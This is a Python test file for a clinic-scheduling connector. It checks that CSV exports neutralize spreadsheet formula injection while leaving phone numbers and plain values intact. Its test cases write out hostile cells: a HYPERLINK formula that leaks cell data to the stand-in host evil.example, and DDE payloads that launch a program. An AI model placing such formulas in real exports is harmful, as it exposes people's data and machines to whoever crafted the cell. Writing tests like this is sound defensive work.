"""The CSV responses file never carries a spreadsheet formula (issue 16, observation 9)."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest

from clinicsync.connectors.base import WritebackAction
from clinicsync.connectors.csv_drop import CsvDropConnector, CsvDropSettings
from clinicsync.connectors.csv_formulas import neutralize_formula


@pytest.mark.parametrize(("cell", "written"), [
    ('=HYPERLINK("http://evil.example/?"&A1,"open")', '\'=HYPERLINK("http://evil.example/?"&A1,"open")'),
    ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
    ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("+1 555 0100", "+1 555 0100"),  # a phone number stays a phone number
    ("+1 (212) 555-0100", "+1 (212) 555-0100"),
    ("-12.5", "-12.5"),
    ("-", "'-"),
    ("A1002", "A1002"),
    ("P-7=8", "P-7=8"),  # only the first character matters
    ("", ""),
])
def test_formula_prefixes_are_neutralized(cell: str, written: str) -> None:
    assert neutralize_formula(cell) == written


def test_the_responses_file_holds_text_not_formulas(tmp_path: Path) -> None:
    export = tmp_path / "out" / "responses.csv"
    connector = CsvDropConnector(CsvDropSettings(name="c", mapping="csv_default", drop_dir=tmp_path,
                                                 responses_file=export))
    connector.writeback(WritebackAction('=HYPERLINK("http://evil.example","x")', "declined", "cancelled",
                                        patient_ref="@P1"))
    connector.writeback(WritebackAction("+15550100", "accepted", patient_ref="-7"))
    with export.open(newline="", encoding="utf-8") as handle:
        lines = list(csv.DictReader(handle))
    assert [(r["appointment_id"], r["patient_id"], r["participant_status"]) for r in lines] == [
        ('\'=HYPERLINK("http://evil.example","x")', "'@P1", "declined"), ("+15550100", "-7", "accepted")]
